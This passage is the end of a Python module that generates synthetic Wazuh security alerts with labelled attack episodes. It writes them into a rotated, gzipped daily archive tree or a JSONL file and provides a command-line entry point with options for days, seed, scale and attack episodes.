    ``ossec-alerts-DD.json`` with ``alerts.json`` hard-linked to it. ``part_lines=N`` rotates
    within a day every N alerts the way analysisd names the parts: ``ossec-alerts-DD.json``,
    then ``ossec-alerts-DD-001.json``, ``-002``...; rotated parts are gzipped, the live one is
    not. Alerts must be in time order. Returns ``{"root", "alerts", "days", "files",
    "alerts_json"}``."""
    if part_lines is not None and (not isinstance(part_lines, int) or part_lines < 1):
        raise ValueError(f"part_lines must be a positive integer, got {part_lines!r}")
    base = os.path.join(os.fspath(root), "logs", "alerts")
    os.makedirs(base, exist_ok=True)
    today = datetime.now(timezone.utc).date().isoformat()
    files: List[str] = []
    state: Dict[str, Any] = {"day": None, "fh": None, "path": None, "gz": False, "part": 0, "lines": 0}
    n = 0
    days = 0
    live: Optional[str] = None

    def part_path(day: str, part: int, gz: bool) -> str:
        y, m, dd = day.split("-")
        d = os.path.join(base, y, _MON[int(m) - 1])
        os.makedirs(d, exist_ok=True)
        name = f"ossec-alerts-{dd}" + (f"-{part:03d}" if part else "") + ".json" + (".gz" if gz else "")
        return os.path.join(d, name)

    def close(final: bool) -> None:
        fh = state["fh"]
        if fh is None:
            return
        fh.close()
        path = state["path"]
        if not state["gz"] and not final:  # a rotated part of today: compressed like monitord does
            with open(path, "rb") as src, _gzip.open(path + ".gz", "wb", compresslevel=6) as dst:
                while True:
                    chunk = src.read(1 << 20)
                    if not chunk:
                        break
                    dst.write(chunk)
            os.unlink(path)
            path += ".gz"
        files.append(path)
        state["fh"] = None

    def open_part(day: str, part: int) -> None:
        gz = not (today_as_alerts_json and day == today)
        path = part_path(day, part, gz)
        state.update(day=day, part=part, lines=0, gz=gz, path=path,
                     fh=_gzip.open(path, "wt", encoding="utf-8", newline="\n", compresslevel=6) if gz
                     else open(path, "w", encoding="utf-8", newline="\n"))

    try:
        for a in alerts:
            ts = a.get("timestamp") or a.get("@timestamp") or ""
            day = str(ts)[:10]
            if not re.match(r"^\d{4}-\d{2}-\d{2}$", day):
                raise ValueError(f"alert {a.get('id')!r} has no usable timestamp: {ts!r}")
            if day != state["day"]:
                if state["day"] is not None and day < state["day"]:
                    raise ValueError(f"alerts are not in time order ({day} after {state['day']})")
                close(final=False if state["gz"] is False and state["day"] == today else True)
                open_part(day, 0)
                days += 1
            elif part_lines is not None and state["lines"] >= part_lines:
                close(final=False)
                open_part(day, state["part"] + 1)
            state["fh"].write(_dumps(a) + "\n")
            state["lines"] += 1
            n += 1
        if state["fh"] is not None:
            last_live = not state["gz"]
            close(final=True)
            if last_live:
                live = os.path.join(base, "alerts.json")
                if os.path.lexists(live):
                    os.unlink(live)
                try:
                    os.link(files[-1], live)
                except OSError:
                    import shutil
                    shutil.copyfile(files[-1], live)
    finally:
        if state["fh"] is not None:
            state["fh"].close()
    return {"root": os.fspath(root), "alerts": n, "days": days, "files": files, "alerts_json": live}


# ----------------------------------------------------------------------------- command line

def _progress(alerts: Iterable[Dict[str, Any]], total_days: int, stream: Any) -> Iterator[Dict[str, Any]]:
    """Show days and alert counts on a terminal while generating (nothing when not a tty)."""
    show = hasattr(stream, "isatty") and stream.isatty()
    n = 0
    last_day = None
    day_no = 0
    t0 = time.monotonic()
    last = t0
    for a in alerts:
        n += 1
        if show:
            day = a["timestamp"][:10]
            if day != last_day:
                last_day = day
                day_no += 1
            now = time.monotonic()
            if now - last > 0.5:
                last = now
                stream.write(f"\rgenerating: day {day_no}/{total_days}, {n:,} alerts, {n / (now - t0):,.0f}/s ")
                stream.flush()
        yield a
    if show:
        stream.write("\r" + " " * 70 + "\r")
        stream.flush()


def _tee_jsonl(alerts: Iterable[Dict[str, Any]], fh: Any) -> Iterator[Dict[str, Any]]:
    for a in alerts:
        fh.write(_dumps(a) + "\n")
        yield a


def main(argv: Optional[Sequence[str]] = None) -> int:
    """``python -m mimizuku.tools.synth --out DIR [--jsonl FILE] --days 14 --seed 0 [--scale X]
    [--no-attacks]``. Exit codes: 0 done, 1 could not write, 2 bad arguments."""
    p = argparse.ArgumentParser(prog="mimizuku generate",
                                description="Generate realistic Wazuh alerts for a small fleet, with labelled attacks.")
    p.add_argument("--out", help="write a Wazuh archive tree under DIR/logs/alerts/")
    p.add_argument("--jsonl", help="write all alerts to FILE, one JSON per line (.gz to compress, - for stdout)")
    p.add_argument("--days", type=int, default=14, help="days of activity (default 14)")
    p.add_argument("--start", help="first day, YYYY-MM-DD (default: today minus --days)")
    p.add_argument("--seed", type=int, default=0, help="random seed (default 0)")
    p.add_argument("--scale", type=float, default=1.0,
                   help="activity scale; 1 = ~20k alerts per weekday, 5.5 = ~1M over 14 days (default 1)")
    p.add_argument("--attack-days", type=int, default=2, help="attacks only in the last N days (default 2)")
    p.add_argument("--episodes", help="comma-separated episode kinds (default: all): " + ",".join(EPISODE_KINDS))
    p.add_argument("--no-attacks", action="store_true", help="benign activity only")
    p.add_argument("--part-lines", type=int, help="rotate the daily files every N alerts (archive tree only)")
    p.add_argument("--no-alerts-json", action="store_true", help="do not keep today's file as alerts.json")
    p.add_argument("--episodes-out", help="write the episode metadata (JSON) to FILE")
    p.add_argument("--no-labels", action="store_true", help="drop the _label key (exactly what Wazuh writes)")
    p.add_argument("-q", "--quiet", action="store_true", help="no summary on stderr")
    args = p.parse_args(argv)
    if not args.out and not args.jsonl:
        p.print_usage(sys.stderr)
        sys.stderr.write("mimizuku generate: error: give --out DIR and/or --jsonl FILE\n")
        return 2
    try:
        start = date.fromisoformat(args.start) if args.start else None
        cfg = FleetConfig(days=args.days, start=start, seed=args.seed, scale=args.scale, attack_days=args.attack_days,
                          episodes=[k.strip() for k in args.episodes.split(",") if k.strip()] if args.episodes else None,
                          attacks=not args.no_attacks)
        cfg.check()
        eps = episodes(cfg)
        alerts: Iterable[Dict[str, Any]] = _progress(generate(cfg), cfg.days, sys.stderr)
    except ValueError as e:
        sys.stderr.write(f"mimizuku generate: error: {e}\n")
        return 2
    counts = {"attack": 0}

    def count(it: Iterable[Dict[str, Any]]) -> Iterator[Dict[str, Any]]:
        for a in it:
            if a[LABEL_KEY]["attack"]:
                counts["attack"] += 1
            yield a

    alerts = count(alerts)
    if args.no_labels:
        alerts = strip_labels(alerts)
    t0 = time.monotonic()
    summary: Dict[str, Any] = {}
    try:
        if args.out and args.jsonl and args.jsonl != "-":
            tmp = f"{args.jsonl}.tmp-{os.getpid()}"
            opener = (lambda: _gzip.open(tmp, "wt", encoding="utf-8", newline="\n", compresslevel=6)) \
                if args.jsonl.endswith(".gz") else (lambda: open(tmp, "w", encoding="utf-8", newline="\n"))
            with opener() as fh:
                summary = write_archive_tree(args.out, _tee_jsonl(alerts, fh),
                                             today_as_alerts_json=not args.no_alerts_json, part_lines=args.part_lines)
            os.replace(tmp, args.jsonl)
            total = summary["alerts"]
        elif args.out:
            if args.jsonl == "-":
                alerts = _tee_jsonl(alerts, sys.stdout)
            summary = write_archive_tree(args.out, alerts, today_as_alerts_json=not args.no_alerts_json,
                                         part_lines=args.part_lines)
            total = summary["alerts"]
        else:
            total = write_jsonl(args.jsonl, alerts)
        if args.episodes_out:
            with open(args.episodes_out, "w", encoding="utf-8") as fh:
                json.dump(eps, fh, indent=2)
                fh.write("\n")
    except ValueError as e:
        sys.stderr.write(f"mimizuku generate: error: {e}\n")
        return 2
    except OSError as e:
        sys.stderr.write(f"mimizuku generate: cannot write: {e}\n")
        return 1
    if not args.quiet:
        took = time.monotonic() - t0
        where = []
        if args.out:
            where.append(f"{len(summary.get('files', []))} files under {os.path.join(args.out, 'logs', 'alerts')}")
        if args.jsonl:
            where.append(args.jsonl)
        sys.stderr.write(f"{total:,} alerts ({counts['attack']:,} in {len(eps)} attack episodes) over {cfg.days} days "
                         f"in {took:.1f}s -> {'; '.join(where)}\n")
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
